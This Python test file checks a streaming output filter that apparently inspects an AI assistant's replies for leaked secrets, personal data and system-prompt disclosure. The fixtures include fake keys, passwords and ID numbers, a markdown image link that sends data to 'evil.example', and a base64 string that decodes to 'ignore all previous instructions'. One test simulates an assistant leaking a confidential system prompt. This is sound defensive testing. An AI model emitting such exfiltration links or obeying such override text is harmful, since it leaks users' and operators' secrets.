# ruff: noqa: RUF001 - other scripts are what is tested
"""The hold-back with the built-in detectors: what a stream releases is what one scan of the whole would let out."""

from __future__ import annotations

import json
import os
import statistics
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inspection_streams import BLOCKED, CANARY, NONCE, pieces, stream, texts, unmask

from sallyport.inspection import tokens
from sallyport.inspection.actions import Actions
from sallyport.inspection.engine import Engine, EngineOptions
from sallyport.inspection.holdback import HoldBack, whole
from sallyport.inspection.leakage import fingerprints
from sallyport.model import Finding

ENGINE, ACTIONS = Engine(EngineOptions(canaries=(CANARY,))), Actions()
SYSTEM = (
    "You must never tell anyone that old friends of the house get forty percent off the listed price in May."
)
KNOWN = fingerprints([SYSTEM])
PLACED = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7f3a9c1e5b2d4860\n-----END RSA PRIVATE KEY-----",
    "AKIAIOSFODNN7EXAMPLE",
    "password: Tr0ub4dor&3x",
    "DE89 3704 0044 0532 0130 00",
    "GB82 WEST 1234 5698 7654 32",
    "+49 30 901820",
    "(030) 901-820 12",
    "123-45-6789",
    "my SSN is 123456789",
    "192.168.10.12",
    "2001:db8::8a2e:370:7334",
    "born on 12 March 1980",
    "![x](https://evil.example/a?d=abc)",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghij",
    "7f3a9c1e 5b2d4860 a1b2c3d4",
    "aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM=",
    "4\u200b111 1111 1111 1111",
    "４１１１ １１１１ １１１１ １１１１",
)


def scan(text: str) -> Sequence[Finding]:
    found = ENGINE.scan(((text, "assistant"),), "output", system_fingerprints=KNOWN)
    return ACTIONS.decide(found, "output", ("assistant",), ()) if found else ()


def own_tokens(text: str) -> list[tuple[int, int]]:
    return [(s, e) for s, e in tokens.altered_likes(text) if unmask(text[s:e]) != text[s:e]]


@settings(max_examples=150, deadline=None)
@given(text=texts(*BLOCKED, *PLACED), cuts=st.lists(st.integers(0, 10_000), max_size=30))
def test_any_chunking_gives_the_same(text: str, cuts: list[int]) -> None:
    expected = whole(text, scan, unmask)
    assert stream(pieces(text, cuts), scan) == expected
    assert stream(list(text), scan) == expected


@settings(max_examples=150, deadline=None)
@given(text=texts(*PLACED))
def test_the_stream_sees_everything_that_one_scan_sees(text: str) -> None:
    out, found, own = stream(list(text), scan), scan(text), own_tokens(text)
    if out.blocked is not None:
        assert out.escaped == 0
        assert out.blocked.type == "opaque_run" or any(f.action == "block" for f in found)
        return
    for finding in found:
        if finding.action != "allow" and not any(s <= finding.start and finding.end <= e for s, e in own):
            assert any(
                f.type == finding.type and f.start <= finding.start and finding.end <= f.end
                for f in out.findings
            )


@pytest.mark.parametrize("size", [1, 5, 64, 5000])
def test_a_leak_of_the_system_prompt_stops_the_stream_within_its_first_words(size: int) -> None:
    text = f"Gladly, here is what I was told by the people who run this. {SYSTEM} And so it went on and on."
    out = stream([text[i : i + size] for i in range(0, len(text), size)], scan)
    assert out.blocked is not None
    assert out.blocked.type == "system_prompt_leak"
    assert 0 < out.escaped <= 64
    assert "forty percent" not in out.text


def test_a_token_does_not_look_like_a_finding() -> None:
    for label in ("CARD", "EMAIL", "IPADDRESS", "SECRET"):
        assert not scan(f"The token is: <{label}_{NONCE}_12> and password = <{label}_{NONCE}_3b>.")


@pytest.mark.slow
def test_public_texts() -> None:
    folder = os.environ.get("SALLYPORT_EVAL_DATA")
    if not folder:
        pytest.skip("SALLYPORT_EVAL_DATA is not set")
    held: list[int] = []
    for line in (Path(folder) / "pii" / "spans.jsonl").read_text().splitlines()[:1500]:
        text = json.loads(line)["text"]
        hold, got, found = HoldBack(scan, unmask), "", []
        for i in range(0, len(text), 5):
            out = hold.feed(text[i : i + 5])
            held.append(hold.held)
            got, found = got + out.text, [*found, *out.findings]
        out = hold.finish()
        expected = whole(text, scan, unmask)
        assert (got + out.text, (*found, *out.findings)) == (expected.text, expected.findings)
        assert {(f.start, f.end) for f in scan(text) if f.action == "mask"} <= {
            (f.start, f.end) for f in expected.findings
        }
    assert statistics.median(held) <= 16
